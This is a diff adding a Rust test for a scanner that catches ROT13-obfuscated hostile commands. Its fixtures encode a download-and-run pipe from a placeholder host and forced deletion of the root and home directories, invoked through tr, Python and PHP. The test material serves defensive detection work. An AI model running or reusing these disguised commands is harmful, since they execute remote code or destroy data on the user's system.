@@ -54,6 +54,19 @@ fn what_stands_by_wildcards_or_in_a_call_that_makes_it_is_found() {
 }
 
 #[test]
+fn what_half_the_alphabet_hides_is_found() {
+    for (text, rule) in [
+        ("echo 'phey -f uggcf://k.rknzcyr/v | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' > /tmp/x", "pipe_to_shell.pipe"),
+        ("tr a-zA-Z n-za-mN-ZA-M <<< 'ez -es /' | sh", "destructive_remove"),
+        ("import codecs\ncmd = 'ez -es ~'\nos.system(codecs.decode(cmd, 'rot13'))\n", "destructive_remove"),
+        ("system(str_rot13('ez -es /'));", "destructive_remove"),
+    ] {
+        assert!(inbound(text).iter().any(|found| found.starts_with(rule)), "{text}: {:?}", inbound(text));
+    }
+    assert_eq!(inbound("rot13 turns letters: 'uryyb' is hello"), [""; 0]);
+}
+
+#[test]
 fn a_public_key_in_a_list_is_told_by_the_list_s_name() {
     let found = |name: &str, text: &str| {
         let found = found_as(Direction::Inbound, Some(name), expand(text).as_bytes());
